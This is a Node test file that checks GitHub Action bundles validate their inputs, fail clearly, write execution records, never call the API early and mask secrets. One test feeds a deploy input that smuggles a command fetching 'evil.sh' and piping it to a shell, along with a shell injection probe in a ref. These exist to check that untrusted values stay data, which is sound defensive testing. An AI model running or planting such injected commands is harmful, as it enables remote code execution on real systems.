// The four bundles as users run them today: every input validated before any side effect, then a
// clear failure (never a pretend success), an execution record, and nothing leaked or sent.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { e2e } from '../harness/e2e.ts';
import { startGitHubEmulator, type GitHubEmulator } from '../harness/github/index.ts';
import { loadAction } from '../../scripts/lib/actions.ts';

const TOKEN = 'ghs_e2eTokenThatMustNeverAppear0123456789';

const VALID: Record<string, Record<string, string>> = {
  provision: { tool: 'terraform' },
};

let github: GitHubEmulator;
before(async () => {
  github = await startGitHubEmulator();
  github.seed.repo('octo/app');
  github.seed.token(TOKEN);
});
after(() => github.close());

for (const action of Object.keys(VALID)) {
  describe(action, () => {
    test('valid inputs: fails clearly as not implemented, with a record, no API call', async (t) => {
      const h = e2e(t);
      h.haystack(() => github.receivedStrings());
      const before = github.requests.length;
      const r = await h.run({ action, inputs: VALID[action] ?? {}, token: TOKEN, env: { GITHUB_API_URL: github.url }, context: { repository: 'octo/app' } });
      assert.equal(r.exitCode, 1, r.stdout);
      const errors = r.annotations.filter((a) => a.level === 'error');
      assert.equal(errors.length, 1, JSON.stringify(r.annotations));
      assert.match(errors[0]!.message, new RegExp(`^${action}: not implemented yet`));
      const record = JSON.parse(r.outputs.record ?? '{}');
      assert.equal(record.action, action);
      assert.equal(record.outcome, 'failure');
      assert.equal(record.api_calls, 0);
      assert.match(record.correlation_id, /^\d+\/\d+\/\S+$/);
      assert.match(r.summary, new RegExp(`\\| ${action} \\| \\d+\\.\\d+\\.\\d+ \\| failure \\|`));
      assert.equal(github.requests.length, before, 'no API call before the behaviour exists');
      assert.deepEqual(github.contractViolations, []);
    });

    const required = Object.entries(loadAction(action).yml.inputs ?? {}).filter(([, i]) => i.required).map(([n]) => n);
    if (required.length > 0) {
      test(`missing required inputs (${required.join(', ')}): fails naming them`, async (t) => {
        const h = e2e(t);
        const r = await h.run({ action, inputs: {}, env: { GITHUB_API_URL: github.url } });
        assert.equal(r.exitCode, 1);
        const message = r.annotations.find((a) => a.level === 'error')?.message ?? '';
        for (const name of required) assert.match(message, new RegExp(`Input '${name}' has value ""; expected .*required`));
      });
    }
  });
}

test('bad inputs are named with the value and the expected form, and untrusted values stay data', async (t) => {
  const h = e2e(t);
  const r = await h.run({
    action: 'deploy',
    inputs: { environment: 'prod"; curl evil.sh | sh; "', run: 'echo hi', ref: 'zzz";echo${IFS}"hello";#', retries: 'lots' },
    token: TOKEN,
    env: { GITHUB_API_URL: github.url },
  });
  assert.equal(r.exitCode, 1);
  const message = r.annotations.find((a) => a.level === 'error')?.message ?? '';
  // The ref is a valid branch name (GitHub's own example of one): accepted, and only ever data.
  assert.match(message, /2 inputs are invalid/);
  assert.match(message, /Input 'environment' has value "prod\\"; curl evil.sh \| sh; \\""; expected an environment name/);
  assert.doesNotMatch(message, /'ref'/);
  assert.match(message, /Input 'retries' has value "lots"; expected an integer from 0 to 10/);
  assert.ok(!r.stdout.includes('\nhello\n'), 'nothing was executed');
});

test('a secret given as input never reaches the log, even in an error about it', async (t) => {
  const h = e2e(t);
  const value = h.secret('abc'.repeat(2) + '-tooLongForNothing'); // registered before any log line
  const r = await h.run({
    action: 'rotate-secret',
    inputs: { name: '1BAD', destinations: 'github:repo', value, 'target-url': 'postgres://admin:Sup3r-Secret@127.0.0.1/db' },
    token: TOKEN,
    env: { GITHUB_API_URL: github.url },
  });
  assert.equal(r.exitCode, 1);
  assert.match(r.annotations.find((a) => a.level === 'error')?.message ?? '', /Input 'name' has value "1BAD"/);
  assert.ok(r.masks.includes(value), 'the value was registered with the runner');
  assert.ok(r.masks.includes(TOKEN), 'the token was registered with the runner');
});
